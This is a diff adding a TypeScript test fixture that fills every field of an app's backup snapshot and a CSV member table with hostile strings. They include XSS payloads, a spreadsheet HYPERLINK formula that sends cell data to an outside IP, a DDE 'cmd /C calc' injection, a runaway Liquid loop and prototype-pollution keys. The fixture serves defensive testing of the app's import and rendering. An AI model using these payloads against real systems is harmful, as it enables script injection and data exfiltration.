@@ -1,0 +1,218 @@
+import { createSnapshotWriter } from '#shared/domain/backup/snapshot';
+import { type Day, timeOfDay } from '#shared/domain/days';
+import { blankMember, type Member, type Membership } from '#shared/domain/members/member';
+import type { DataTableName } from '#shared/domain/store/data-tables';
+import { joinPieces } from '../../vault/vault-harness';
+
+/** Whatever of these becomes an element carries the class `pwned`; whatever of these runs sets `window.hacked`. */
+export const hostileTexts = {
+  image: '<img class=pwned src=x onerror="window.hacked=1">',
+  script: '</textarea></title><script class=pwned>window.hacked=1</script>',
+  vector: '"><svg class=pwned onload="window.hacked=1"><script>window.hacked=1</script></svg>',
+  link: '<a class=pwned href="javascript:window.hacked=1">点我</a>',
+  address: 'javascript:window.hacked=1//',
+  markdown: '[点我](javascript:window.hacked=1) ![x](https://203.0.113.9/a.png) | `a`',
+  style: '<style class=pwned>*{background:url(https://203.0.113.9/b.png)}</style>',
+  frame: '<iframe class=pwned srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  formula: '=HYPERLINK("https://203.0.113.9/?"&A1,"点我")',
+  command: "@SUM(1+1)*cmd|' /C calc'!A0",
+  liquid: '{{ 昵称 | append: 群名 }}{% for i in (1..999999999) %}x{% endfor %}',
+  prototype: '{{ constructor.constructor }}{{ 昵称.__proto__ }}',
+  marks: '\u202E反着写\u2066藏起来\u200F',
+  controls: '前\u0000中\u0007\u001B[31m后\uFFFE',
+  surrogate: '半个\uD83D字\uDE00符',
+  family: '👩‍👩‍👧‍👦👩🏽‍🔬🏳️‍🌈',
+  long: '长'.repeat(60),
+  longest: '名'.repeat(200),
+  own: '__proto__',
+  maker: 'constructor',
+} as const;
+
+const everyText = Object.values(hostileTexts);
+/** Ids that name what every object inherits are ids like any others. */
+const inheritedNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
+
+const idOf = (index: number) => inheritedNames[index] ?? `row-${index}`;
+const textAt = (index: number) => everyText[index % everyText.length] ?? '';
+
+/** A snapshot that its own gate lets through, with a hostile text in every field of every table. */
+export function hostileSnapshot(today: Day): Uint8Array<ArrayBuffer> {
+  const writer = createSnapshotWriter({ schemaVersion: 1, databaseId: '__proto__', createdAt: 1 });
+  const communityId = '__proto__';
+  const groupId = 'constructor';
+  const stamps = { createdAt: 1, updatedAt: 1 };
+  const time = timeOfDay('08:00');
+  const add = (table: DataTableName, rows: readonly object[]) => writer.add(table, rows);
+  const forEvery = <Row extends object>(make: (text: string, index: number) => Row): readonly Row[] =>
+    everyText.map((text, index) => make(text, index));
+
+  add('communities', [
+    { id: communityId, name: hostileTexts.vector, purpose: hostileTexts.style, demo: false, createdAt: 1 },
+    { id: 'toString', name: hostileTexts.marks, purpose: hostileTexts.frame, demo: false, createdAt: 2 },
+  ]);
+  add('groups', [
+    { id: groupId, communityId, name: hostileTexts.image, capacity: 500, position: 1, createdAt: 1 },
+    { id: 'valueOf', communityId, name: hostileTexts.own, capacity: 1, position: 1e308, createdAt: 1 },
+  ]);
+  add(
+    'tags',
+    forEvery((name, index) => ({ id: idOf(index), communityId, name, groupName: name, color: 'teal' })),
+  );
+  add(
+    'members',
+    forEvery((text, index) => hostileMember(text, index, today)),
+  );
+  add(
+    'memberships',
+    forEvery(
+      (text, index): Omit<Membership, 'id' | 'communityId' | 'groupId' | 'memberId'> => ({
+        ...{ id: idOf(index), communityId, groupId, memberId: idOf(index) },
+        nickname: text,
+        joinedOn: today,
+        leftOn: null,
+        inviter: { name: text, memberId: null },
+        status: 'active',
+        muted: false,
+        pinned: false,
+        welcomedAt: null,
+      }),
+    ),
+  );
+  add(
+    'timeline',
+    forEvery((text, index) => ({
+      id: idOf(index),
+      communityId,
+      memberId: idOf(0),
+      kind: 'note',
+      at: 8.64e15,
+      text,
+      sourceId: text.slice(0, 64),
+    })),
+  );
+  add(
+    'scripts',
+    forEvery((text, index) => ({
+      ...{ id: idOf(index), communityId, title: text, body: text, scenario: '欢迎', folder: text },
+      tags: [text],
+      favourite: index === 0,
+      archivedAt: null,
+      useCount: Number.MAX_SAFE_INTEGER,
+      lastUsedAt: 1,
+      ...stamps,
+    })),
+  );
+  add(
+    'queue',
+    forEvery((text, position) => ({
+      ...{ id: idOf(position), communityId, groupId, scriptId: idOf(position), memberIds: [idOf(position)] },
+      ...{ text, welcome: true, position, state: 'waiting', copiedAt: null },
+    })),
+  );
+  add(
+    'plannerItems',
+    forEvery((text, index) => ({
+      ...{ id: idOf(index), communityId, seriesId: null, day: today, time, title: text, body: text },
+      ...{ kind: '锦囊', status: 'ready', groupIds: [groupId], sentAt: null, ...stamps },
+    })),
+  );
+  add('activities', [hostileActivity(today, stamps)]);
+  add(
+    'tasks',
+    forEvery((title, position) => ({
+      ...{ id: idOf(position), communityId, activityId: 'constructor', phase: 'before', title, owner: title },
+      ...{ dueOn: today, pinned: false, doneAt: null, offsetDays: null, position },
+    })),
+  );
+  add('products', [{ id: 'p', communityId, name: hostileTexts.link, priceInFen: 1, rules: [] }]);
+  add('settings', [
+    { key: 'operatorName', value: hostileTexts.script },
+    { key: 'currentCommunityId', value: communityId },
+    { key: '__proto__', value: { hacked: 1 } },
+    { key: 'lastBackup', value: { at: 1e300, name: hostileTexts.image, place: hostileTexts.frame, rows: 1 } },
+  ]);
+  return joinPieces(writer.finish().pieces);
+}
+
+function hostileMember(text: string, index: number, today: Day): object {
+  const { nickname, ...blank } = blankMember(text.slice(0, 200), 'ember');
+  return {
+    id: idOf(index),
+    communityId: '__proto__',
+    nickname,
+    ...blank,
+    preferredName: text,
+    wechatId: text,
+    city: text,
+    joinedOn: today,
+    inviter: { name: text, memberId: idOf(index + 1) as Member['id'] },
+    source: text,
+    lastContactAt: -8.64e15,
+    notes: text,
+    duties: [{ title: text, description: text, claimedOn: null, claimedBy: 'self' }],
+    skin: { ...blank.skin, sensitive: true, concerns: [text], states: [text], allergens: [text] },
+    traits: [{ kind: 'specialty', name: text, domain: '其他', quote: text, on: today, strength: 3 }],
+    tagIds: [idOf(index)],
+    createdAt: 1,
+    updatedAt: 1,
+  };
+}
+
+function hostileActivity(today: Day, stamps: object): object {
+  const all = everyText.join('\n');
+  return {
+    id: 'constructor',
+    communityId: '__proto__',
+    templateId: '__proto__',
+    title: hostileTexts.script,
+    status: 'running',
+    startsOn: today,
+    startsAt: timeOfDay('20:00'),
+    groupIds: ['constructor'],
+    brief: { purpose: all, audience: hostileTexts.image, reason: all, rules: all, rewards: all },
+    metrics: everyText.map((name, index) => ({
+      id: idOf(index),
+      name,
+      unit: textAt(index),
+      goal: 1,
+      actual: 1e300,
+    })),
+    scripts: everyText.map((title, index) => ({ id: idOf(index), title, body: title })),
+    risks: everyText.map((risk, index) => ({ id: idOf(index), risk, trigger: risk, action: risk })),
+    retrospective: { achieved: all, missed: all, lessons: all },
+    ...stamps,
+  };
+}
+
+/** A table of members as UTF-16, which can hold half a character: hostile cells under hostile headings. */
+export function hostileTable(): Buffer {
+  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
+  const headings = [
+    '群昵称',
+    '标签',
+    '特长',
+    '备注',
+    '入群日期',
+    '邀请人',
+    '来源',
+    '__proto__',
+    'constructor',
+  ];
+  const header = [...headings, hostileTexts.image, hostileTexts.formula].map(cell).join(',');
+  // Blank characters and those no text may hold leave something of each name: every row has one.
+  const rows = everyText.map((text, index) =>
+    [text, text, text, text, impossibleDays[index] ?? '2026-01-05', text, text, text, text, text, text]
+      .map(cell)
+      .join(','),
+  );
+  return Buffer.from(`\ufeff${[header, ...rows].join('\r\n')}\r\n`, 'utf16le');
+}
+
+/** Days for the first rows of the table; the formulas and a link among them are refused with their rows. */
+const impossibleDays: Readonly<Record<number, string>> = {
+  0: '2026-02-30',
+  1: '=TODAY()',
+  8: '99999-99-99',
+  9: '+1e999',
+  18: '__proto__',
+};
